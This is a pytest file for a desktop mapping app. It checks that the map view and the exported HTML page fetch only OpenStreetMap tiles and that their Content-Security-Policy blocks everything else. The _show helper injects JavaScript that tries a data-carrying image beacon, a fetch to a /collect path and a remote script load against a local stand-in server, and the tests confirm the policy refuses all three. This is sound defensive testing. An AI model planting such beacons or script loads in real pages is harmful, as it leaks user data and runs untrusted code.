"""The window's map fetches basemap tiles when the basemap is on, and nothing else ever.

Two tile servers run on this machine (127.0.0.1): one stands for OpenStreetMap, the other
for any address a page should never reach. No test here touches the network.
"""

from __future__ import annotations

import html
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import geopandas as gpd
import pytest
from shapely.geometry import box

from hotspot.maps import layers as L
from hotspot.maps import web, web_html

pytest.importorskip("PySide6.QtWebEngineWidgets", reason="QtWebEngine is not installed")

from hotspot.ui.map_view import USER_AGENT, MapView, build_page  # noqa: E402

# a 1x1 transparent PNG
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)
TILE_PATH = re.compile(r"^/\d+/\d+/\d+\.png$")


class _Server:
    """A tile server on 127.0.0.1 that records each request's path and User-Agent."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str]] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server API
                seen.append((self.path, self.headers.get("User-Agent", "")))
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, *args):  # quiet
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def servers(monkeypatch):
    tiles, elsewhere = _Server(), _Server()
    monkeypatch.setattr(web, "OSM_URL", tiles.url + "/{z}/{x}/{y}.png")
    yield tiles, elsewhere
    tiles.close()
    elsewhere.close()


def _layers():
    ward = gpd.GeoDataFrame(
        {"code": ["E1"], "name": ["Ward"]},
        geometry=[box(537000, 174000, 539000, 176000)],
        crs=27700,
    )
    return [L.AreaBoundaries(ward, name="Wards")]


REFUSED_JS = """
window.__refused = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__refused.push(e.blockedURI);
});
"""


def _show(qtbot, servers, basemap: str) -> MapView:
    tiles, elsewhere = servers
    view = MapView()
    qtbot.addWidget(view)
    view.resize(800, 600)
    view.show()
    with qtbot.waitSignal(view.page_loaded, timeout=30000) as blocker:
        view.show_html(build_page(_layers(), basemap))
    assert blocker.args == [True]
    # whatever a page might try: an image, a fetch and a script from another address
    view.run_js(
        REFUSED_JS + f"new Image().src = '{elsewhere.url}/collect.png?ward=Ward';"
        f"fetch('{elsewhere.url}/collect?n=3').catch(function () {{}});"
        f"var s = document.createElement('script'); s.src = '{elsewhere.url}/x.js';"
        "document.head.appendChild(s);"
    )
    return view


def _refused(qtbot, view) -> list[str]:
    got: list = []
    qtbot.waitUntil(lambda: _poll(view, got), timeout=20000)
    return json.loads(got[-1])


def _poll(view, got) -> bool:
    view.run_js("JSON.stringify(window.__refused || [])", lambda r: got.append(r))
    return bool(got) and len(json.loads(got[-1] or "[]")) >= 3


def test_with_the_basemap_on_the_map_fetches_tiles_and_nothing_else(qtbot, servers):
    tiles, elsewhere = servers
    view = _show(qtbot, servers, "osm")
    qtbot.waitUntil(lambda: len(tiles.requests) >= 4, timeout=20000)
    refused = _refused(qtbot, view)
    assert all(url.startswith(elsewhere.url) for url in refused), refused
    assert all(TILE_PATH.match(path) for path, _ in tiles.requests), tiles.requests
    assert {agent for _, agent in tiles.requests} == {USER_AGENT}
    assert elsewhere.requests == []
    view.dispose()


def test_with_the_basemap_off_nothing_leaves_the_machine(qtbot, servers):
    tiles, elsewhere = servers
    view = _show(qtbot, servers, "none")
    refused = _refused(qtbot, view)
    assert all(url.startswith(elsewhere.url) for url in refused), refused
    qtbot.wait(500)
    assert tiles.requests == [] and elsewhere.requests == []
    assert tiles.url not in view.loaded_html
    view.dispose()


def test_the_exported_page_allows_only_its_basemap_tiles():
    """map.html carries the same policy: a browser opening it fetches tiles, nothing else."""
    on = html.unescape(web_html.render_html(web.build_map(_layers(), basemap="osm")))
    off = html.unescape(web_html.render_html(web.build_map(_layers(), basemap="none")))
    for page in (on, off):
        policy = re.search(r'"Content-Security-Policy" content="([^"]+)"', page)
        assert policy and "default-src 'none'" in policy.group(1)
        assert page.index("Content-Security-Policy") < page.index("<script")
    assert "img-src data: https://tile.openstreetmap.org;" in on
    assert "img-src data:;" in off and "openstreetmap.org/{z}" not in off
